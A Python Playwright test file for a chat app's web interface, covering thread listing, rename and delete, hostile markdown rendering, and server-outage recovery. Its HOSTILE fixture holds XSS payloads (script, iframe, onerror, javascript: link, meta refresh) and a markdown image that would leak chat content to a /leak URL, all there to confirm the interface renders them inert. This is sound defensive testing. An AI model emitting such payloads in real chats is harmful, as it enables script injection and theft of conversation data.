"""Sidebar (list, switch, rename, delete), hostile markdown, server down and recovery."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from tests.e2e.helpers import (
    ASSISTANT,
    USER,
    open_chat,
    send,
    wait_for_assistant_text,
    wait_idle,
)

pytestmark = pytest.mark.e2e

HOSTILE = """Here is some *markdown*.

<script>window.__pwned = 'script'</script>
<iframe srcdoc="<script>parent.__pwned = 'iframe'</script>"></iframe>
<style>body { background: rgb(255, 0, 0) !important; }</style>
<meta http-equiv="refresh" content="0; url=https://example.invalid/">
<img src="x" onerror="window.__pwned = 'img'">
[click me](javascript:window.__pwned='link')

An image: ![tracking pixel](http://127.0.0.1:9/leak?chat=secret-conversation)

```python
print("code stays code")
```
"""


async def _new_thread(page, chat_app, question: str, answer: str) -> str:
    chat_app.say(answer, token_delay=0.005)
    await page.get_by_role("link", name="New thread").click()
    await expect(page).to_have_url(re.compile(r"/$"))
    await expect(page.get_by_role("article")).to_have_count(0)
    await send(page, question)
    await wait_for_assistant_text(page, answer)
    await wait_idle(page)
    await expect(page).to_have_url(re.compile(r"/threads/"))
    return page.url.rsplit("/", 1)[1]


async def test_thread_list_switch_rename_delete(tab, chat_app):
    page = tab.page
    await open_chat(page, chat_app.url)
    first = await _new_thread(page, chat_app, "First topic: apples", "Apples are red.")
    second = await _new_thread(page, chat_app, "Second topic: pears", "Pears are green.")
    nav = page.get_by_role("navigation", name="Threads")
    await expect(nav.get_by_role("link", name=re.compile("First topic: apples"))).to_be_visible()
    links = nav.get_by_role("link")
    # Newest first, titled by the first human message, with a status badge.
    await expect(links.first).to_contain_text("Second topic: pears")
    await expect(links.first).to_contain_text("idle")
    assert await links.first.get_attribute("href") == f"/threads/{second}"

    # Switch to the first thread.
    await nav.get_by_role("link", name=re.compile("First topic")).click()
    await expect(page).to_have_url(re.compile(f"/threads/{first}$"))
    await expect(page.get_by_role("article", name=ASSISTANT).locator(".chat-markdown")
                 ).to_have_text("Apples are red.")
    await expect(page.get_by_role("article", name=USER)).to_have_text("First topic: apples")
    await expect(page.get_by_role("article")).to_have_count(2)

    # Rename it.
    row = nav.get_by_role("listitem").filter(has_text="First topic")
    await row.get_by_role("button", name="Thread actions").click()
    await page.get_by_role("menuitem", name="Rename").click()
    title = nav.get_by_role("textbox", name="Thread title")
    await title.fill("Fruit notes")
    await title.press("Enter")
    await expect(nav.get_by_role("link", name=re.compile("Fruit notes"))).to_be_visible()
    await page.reload()
    await expect(nav.get_by_role("link", name=re.compile("Fruit notes"))).to_be_visible()

    # Delete it (after confirming); the page leaves the deleted thread.
    row = nav.get_by_role("listitem").filter(has_text="Fruit notes")
    await row.get_by_role("button", name="Thread actions").click()
    await page.get_by_role("menuitem", name="Delete").click()
    dialog = page.get_by_role("alertdialog")
    await expect(dialog).to_contain_text("Fruit notes")
    await dialog.get_by_role("button", name="Delete").click()
    await expect(nav.get_by_role("link", name=re.compile("Fruit notes"))).to_have_count(0)
    await expect(page).to_have_url(re.compile(r"/$"))
    await expect(nav.get_by_role("link", name=re.compile("Second topic"))).to_be_visible()

    # The deleted thread's URL says so instead of failing silently.
    await page.goto(f"{chat_app.url}/threads/{first}")
    await expect(page.get_by_role("alert")).to_contain_text("not found", ignore_case=True)


async def test_hostile_markdown_renders_inert(tab, chat_app):
    page = tab.page
    await open_chat(page, chat_app.url)
    start_url = page.url
    leaks: list[str] = []
    page.on("request", lambda request: "/leak" in request.url and leaks.append(request.url))
    chat_app.say(HOSTILE, token_delay=0.0)
    await send(page, "say something nasty")
    answer = page.get_by_role("article", name=ASSISTANT).last
    await expect(answer).to_contain_text("code stays code")
    await wait_idle(page)
    await page.wait_for_timeout(1500)  # give any refresh / onerror a chance to fire
    assert await page.evaluate("() => window.__pwned") is None
    assert await page.locator("iframe").count() == 0
    assert await answer.locator("script, style, meta, img").count() == 0
    background = await page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    assert background != "rgb(255, 0, 0)"
    assert page.url.startswith(start_url.rstrip("/"))
    # The tags show as text; the javascript: link is not a live link.
    await expect(answer).to_contain_text("<script>")
    hrefs = await answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert not any((h or "").lower().startswith("javascript") for h in hrefs)
    # A markdown image is never fetched (it could carry the chat away); it is a link.
    assert leaks == []
    image_link = answer.get_by_role("link", name="tracking pixel")
    await expect(image_link).to_have_attribute("href", re.compile(r"/leak\?chat="))
    # Code is highlighted with a copy button.
    await expect(answer.get_by_role("button", name="Copy code")).to_be_visible()
    await page.screenshot(path="/tmp/e2e-hostile.png", full_page=True)


async def test_server_down_shows_alert_then_recovers(tab, chat_app, e2e_server):
    page = tab.page
    await open_chat(page, chat_app.url)
    e2e_server.stop()
    try:
        await send(page, "Are you there?")
        alert = page.get_by_role("alert").filter(has=page.get_by_role("button", name="Retry"))
        await expect(alert).to_contain_text("Cannot reach the Agent Server")
        await expect(alert).to_contain_text("check that it is running", ignore_case=True)
        # The typed text survives in the composer.
        await expect(page.get_by_role("textbox", name="Message")).to_have_value("Are you there?")
        await page.screenshot(path="/tmp/e2e-down.png")
    finally:
        e2e_server.start()
    chat_app.say("Back online.", token_delay=0.01)
    await alert.get_by_role("button", name="Retry").click()
    await wait_for_assistant_text(page, "Back online.")
    await expect(page.get_by_role("alert")).to_have_count(0)
    await expect(page.get_by_role("textbox", name="Message")).to_have_value("")
